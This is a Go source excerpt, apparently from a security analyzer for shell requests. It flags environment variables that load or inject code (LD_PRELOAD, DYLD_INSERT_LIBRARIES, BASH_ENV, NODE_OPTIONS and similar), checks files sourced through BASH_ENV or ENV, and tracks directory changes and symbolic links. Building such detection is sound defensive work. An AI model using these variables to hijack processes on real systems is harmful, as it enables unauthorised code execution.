// judged by shell.env-code on the segments they are in effect for.
var loadVars = table[map[string]bool]{build: func() map[string]bool {
	return map[string]bool{"LD_PRELOAD": true, "LD_LIBRARY_PATH": true, "LD_AUDIT": true, "DYLD_INSERT_LIBRARIES": true,
		"DYLD_LIBRARY_PATH": true, "BASH_ENV": true, "ENV": true, "ZDOTDIR": true, "PYTHONSTARTUP": true, "NODE_OPTIONS": true,
		"PERL5OPT": true, "RUBYOPT": true, "PYTHONWARNINGS": true, "JAVA_TOOL_OPTIONS": true, "_JAVA_OPTIONS": true}
}}

// envAssign looks at a variable set for a command (exported=false: a prefix, env X=…) or
// for the rest of the request. A command-carrying value is parsed as the code it is; a
// code-loading one is attached to the segments it affects.
func (x *extractor) envAssign(name, value string, global bool, ctx walkCtx) {
	switch {
	case codeVars.get()[name] && strings.TrimSpace(value) != "":
		code := value
		if name == "LESSOPEN" || name == "LESSCLOSE" {
			code = strings.ReplaceAll(strings.TrimLeft(code, "|-"), "%s", "")
		}
		c := ctx.with("env " + name)
		c.depth++
		c.pipeIn = nil
		saved := x.scope
		if transportVars.get()[name] && x.sshOptionsOnly(code, c) {
			return
		}
		x.script(code, c)
		x.scope = saved
	case loadVars.get()[name]:
		if name == "ENV" && !strings.Contains(value, "/") {
			return // ENV=production: an application setting, not a file to source
		}
		if global {
			if value == "" {
				delete(x.codeEnv, name)
			} else {
				x.codeEnv[name] = value
			}
		} else if value != "" {
			x.prefixEnv = append(x.prefixEnv, name+"="+value)
		}
		if name == "BASH_ENV" || name == "ENV" {
			// The file is sourced by the next shell: if this request wrote it, judge it.
			if abs, ok := x.scope.Resolve(value); ok {
				if wf := x.files[abs]; wf != nil && wf.known {
					c := ctx.with("env " + name)
					c.depth++
					c.pipeIn = nil
					x.script(wf.content, c)
				}
			}
		}
	}
}

func sortedEnv(m map[string]string) []string {
	out := make([]string, 0, len(m))
	for k, v := range m {
		out = append(out, k+"="+v)
	}
	sort.Strings(out)
	return out
}

// shellState applies what a segment changes about where later commands run: cd, pushd and
// popd move the working directory (to an unknown one when the target cannot be resolved);
// ln -s, cp -s and mklink create links that later paths resolve through.
func (x *extractor) shellState(seg *Segment) {
	args := seg.Args
	if len(args) == 0 {
		return
	}
	switch seg.Name() {
	case "cd", "chdir":
		rest := skipOpts(args[1:], nil)
		if len(args) > 1 && args[1] == "-" {
			if x.oldScope != nil {
				x.oldScope, x.scope = x.scope, x.oldScope.withLinksOf(x.scope)
			} else {
				x.oldScope, x.scope = x.scope, x.scope.withCwd("", false)
			}
			return
		}
		x.oldScope = x.scope
		x.scope = x.cdTo(rest)
	case "pushd":
		rest := skipOpts(args[1:], nil)
		if len(rest) == 0 || strings.HasPrefix(rest[0], "+") || strings.HasPrefix(rest[0], "-") {
			x.dirStack = append(x.dirStack, x.scope)
			x.scope = x.scope.withCwd("", false)
			return
		}
		x.dirStack = append(x.dirStack, x.scope)
		x.oldScope = x.scope
		x.scope = x.cdTo(rest)
	case "popd":
		x.oldScope = x.scope
		if n := len(x.dirStack); n > 0 {
			x.scope = x.dirStack[n-1].withLinksOf(x.scope)
			x.dirStack = x.dirStack[:n-1]
		} else {
			x.scope = x.scope.withCwd("", false)
		}
	case "ln", "cp", "gln":
		if seg.Name() == "cp" && !seg.hasFlag("s", "--symbolic-link") || seg.Name() != "cp" && !seg.hasFlag("s", "--symbolic") {
			return
		}
		p := seg.positional(0, "-t", "--target-directory", "-S", "--suffix")
		if len(p) == 0 {
			return
		}
		target := p[0]
		link := path.Base(strings.TrimSuffix(target, "/"))
		if len(p) >= 2 {
			link = p[len(p)-1]
		}
		x.link(link, target, len(p) > 2)
	case "mklink":
		p := seg.positional(0)
		if len(p) >= 2 {
			x.link(p[0], p[1], false)
		}
	}
}

// cdTo is the scope after cd to the first of args (home when none).
func (x *extractor) cdTo(args []string) *Scope {
	if len(args) == 0 {
		return x.scope.withCwd(x.scope.Home, true)
	}
	abs, ok := x.scope.Resolve(args[0])
	if !ok || HasGlob(args[0]) {
		return x.scope.withCwd("", false)
	}
	return x.scope.withCwd(abs, true)
}

// link records a symbolic link created by the request. A relative target is relative to
// the link's directory, as the kernel resolves it; intoDir is set when several targets go
// into a directory (the link is then DIR/base of the target).
func (x *extractor) link(link, target string, intoDir bool) {
	labs, ok := x.scope.Resolve(link)
	if !ok {
		return
	}
	if intoDir || strings.HasSuffix(link, "/") {
		labs = path.Join(labs, path.Base(target))
	}
	var tabs string
	if t := x.scope.expandHome(target); path.IsAbs(t) {
		tabs, _ = x.scope.Resolve(t)
	} else if !strings.ContainsAny(t, "$`") {
		tabs = path.Clean(path.Join(path.Dir(labs), t))
	}
	x.scope = x.scope.withLink(labs, tabs)
}
